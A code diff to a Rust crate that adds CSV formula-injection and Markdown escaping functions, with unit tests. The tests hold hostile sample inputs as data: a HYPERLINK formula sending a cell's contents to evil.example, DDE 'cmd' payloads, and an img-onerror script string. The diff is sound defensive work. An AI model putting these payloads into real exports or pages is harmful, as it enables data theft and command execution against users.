@@ -196,13 +196,105 @@ pub fn compact(value: u64) -> String {
     value.to_string()
 }
 
-/// A CSV field: quoted (with inner quotes doubled) when it holds a comma, a quote or a line break.
+/// Whether `text` is a plain decimal number as the CSV writers print figures (`-2.5`, `1200`,
+/// `0.00042`, `1e-7`): a spreadsheet reads it as that number, so it is written as it is.
+fn is_plain_number(text: &str) -> bool {
+    let unsigned = text.strip_prefix('-').unwrap_or(text);
+    let (mantissa, exponent) = unsigned
+        .split_once(['e', 'E'])
+        .map_or((unsigned, None), |(m, e)| (m, Some(e)));
+    let (int, frac) = mantissa.split_once('.').unwrap_or((mantissa, ""));
+    let digits = |s: &str| s.bytes().all(|b| b.is_ascii_digit());
+    let exponent_ok = exponent.is_none_or(|e| {
+        let e = e.strip_prefix(['-', '+']).unwrap_or(e);
+        !e.is_empty() && digits(e)
+    });
+    !(int.is_empty() && frac.is_empty()) && digits(int) && digits(frac) && exponent_ok
+}
+
+/// A CSV field, the one way every CSV this crate writes spells a cell.
+///
+/// Text a spreadsheet would evaluate as a formula (starting with `=`, `+`, `-`, `@`, a tab or
+/// a carriage return, as OWASP lists for CSV injection) gets a leading `'` and quotes, so
+/// `=HYPERLINK(…)` in a design name stays text; a plain number such as `-2.5` stays a number.
+/// A field holding a comma, a quote or a line break is quoted, inner quotes doubled.
 pub fn csv_field(text: &str) -> String {
-    if text.contains([',', '"', '\n', '\r']) {
+    let formula = text.starts_with(['=', '+', '-', '@', '\t', '\r']) && !is_plain_number(text);
+    if formula {
+        format!("\"'{}\"", text.replace('"', "\"\""))
+    } else if text.contains([',', '"', '\n', '\r']) {
         format!("\"{}\"", text.replace('"', "\"\""))
     } else {
         text.to_owned()
     }
+}
+
+/// Whether `c` would end a line somewhere: a control character (CR, LF, tab, NUL, ESC, …) or a
+/// Unicode line or paragraph separator.
+fn breaks_lines(c: char) -> bool {
+    c.is_control() || matches!(c, '\u{2028}' | '\u{2029}')
+}
+
+/// The characters Markdown (`CommonMark` and GitHub's) reads as syntax inside a line: emphasis,
+/// code, links and images, raw HTML, entities, tables, strikethrough, headings.
+const MARKDOWN_INLINE: &[char] = &[
+    '\\', '`', '*', '_', '[', ']', '<', '>', '|', '!', '~', '&', '#',
+];
+
+/// User text (a name, a note, a source's description, a title, a message quoting them) as
+/// inert Markdown, the one way every Markdown this crate writes spells it.
+///
+/// Every control character becomes a space, so no user text starts a new line or block; the
+/// characters Markdown interprets inline are backslash-escaped (so `<img …>` is text, not HTML,
+/// and `[x](https://…)` is not a link); and a start that would open a block where the text
+/// begins a line (`- `, `+ `, `1. `, `===`, `---`) is escaped too. Leading spaces are dropped
+/// (they would only indent).
+pub fn md_text(text: &str) -> String {
+    let flat: String = text
+        .chars()
+        .map(|c| if breaks_lines(c) { ' ' } else { c })
+        .collect();
+    let flat = flat.trim_start();
+    let mut out = String::with_capacity(flat.len() + 8);
+    // A list item, a thematic break or a setext underline, where the text starts a line.
+    let second = flat.chars().nth(1);
+    let opens_block = match flat.chars().next() {
+        Some('-') => second.is_none_or(|c| c == ' ' || c == '-'),
+        Some('+') => second.is_none_or(|c| c == ' '),
+        Some('=') => true,
+        _ => false,
+    };
+    if opens_block {
+        out.push('\\');
+    }
+    // An ordered list item: digits, then `.` or `)`, then a space or the end.
+    let digits = flat.chars().take_while(char::is_ascii_digit).count();
+    let ordered = (1..=9).contains(&digits) && {
+        let mut rest = flat[digits..].chars();
+        matches!(rest.next(), Some('.' | ')')) && rest.next().is_none_or(|c| c == ' ')
+    };
+    for (i, c) in flat.chars().enumerate() {
+        if MARKDOWN_INLINE.contains(&c) || (ordered && i == digits) {
+            out.push('\\');
+        }
+        out.push(c);
+    }
+    out
+}
+
+/// Text inside a Markdown code span (`` `…` ``), such as a field path that quotes a name: no
+/// line break, no backtick to close the span early, no `|` to split a table cell.
+pub fn md_code(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    for c in text.chars() {
+        match c {
+            '`' => out.push('\''),
+            '|' => out.push_str("\\|"),
+            c if breaks_lines(c) => out.push(' '),
+            c => out.push(c),
+        }
+    }
+    out
 }
 
 #[cfg(test)]
@@ -257,5 +349,91 @@ mod tests {
         assert_eq!(super::csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
         assert_eq!(super::csv_field("line\rbreak"), "\"line\rbreak\"");
         assert_eq!(super::csv_field("line\nbreak"), "\"line\nbreak\"");
+    }
+
+    #[test]
+    fn user_text_is_inert_markdown() {
+        // A lone CR cannot start a heading; HTML, links and images are text.
+        assert_eq!(
+            md_text("ok\r# Approved by Finance"),
+            "ok \\# Approved by Finance"
+        );
+        assert_eq!(
+            md_text("<img src=x onerror=alert(1)>"),
+            "\\<img src=x onerror=alert(1)\\>"
+        );
+        assert_eq!(
+            md_text("[x](https://evil.example)"),
+            "\\[x\\](https://evil.example)"
+        );
+        assert_eq!(
+            md_text("![i](https://e.x/a.png)"),
+            "\\!\\[i\\](https://e.x/a.png)"
+        );
+        assert_eq!(
+            md_text("a|b\\c `d` *e* _f_ ~g~ &amp;"),
+            "a\\|b\\\\c \\`d\\` \\*e\\* \\_f\\_ \\~g\\~ \\&amp;"
+        );
+        assert_eq!(
+            md_text("line\nbreak\ttab\u{1b}[2J\0"),
+            "line break tab \\[2J "
+        );
+        // Starts that would open a block.
+        assert_eq!(md_text("- item"), "\\- item");
+        assert_eq!(md_text("---"), "\\---");
+        assert_eq!(md_text("+ item"), "\\+ item");
+        assert_eq!(md_text("==="), "\\===");
+        assert_eq!(md_text("1. first"), "1\\. first");
+        assert_eq!(md_text("2024) year"), "2024\\) year");
+        assert_eq!(md_text("    code"), "code");
+        // Figures and plain names are left alone.
+        for plain in [
+            "-$2.50",
+            "+4.2 %",
+            "1,234",
+            "GPT-4o API",
+            "1.5M",
+            "3.5 (beta)",
+        ] {
+            assert_eq!(md_text(plain), plain);
+        }
+    }
+
+    #[test]
+    fn code_spans_hold_no_line_break_backtick_or_cell_break() {
+        assert_eq!(md_code("a`b|c\nd"), "a'b\\|c d");
+    }
+
+    #[test]
+    fn csv_cells_a_spreadsheet_would_evaluate_are_text() {
+        let cases = [
+            (
+                "=HYPERLINK(\"https://evil.example/?d=\"&B2,\"Open pricing\")",
+                "\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&B2,\"\"Open pricing\"\")\"",
+            ),
+            ("+cmd|' /C calc'!A0", "\"'+cmd|' /C calc'!A0\""),
+            ("@SUM(A1:A9)", "\"'@SUM(A1:A9)\""),
+            ("-2+3+cmd|' /C calc'!A0", "\"'-2+3+cmd|' /C calc'!A0\""),
+            ("\t=1", "\"'\t=1\""),
+            ("\r=1", "\"'\r=1\""),
+            ("-", "\"'-\""),
+            ("-e5", "\"'-e5\""),
+        ];
+        for (text, expected) in cases {
+            assert_eq!(super::csv_field(text), expected, "{text:?}");
+        }
+        // Figures stay figures.
+        for number in [
+            "-2.5",
+            "-1",
+            "0.00042",
+            "-0.000012",
+            "12",
+            "1e-7",
+            "-3E+5",
+            "-.5",
+        ] {
+            assert_eq!(super::csv_field(number), number);
+        }
     }
 }
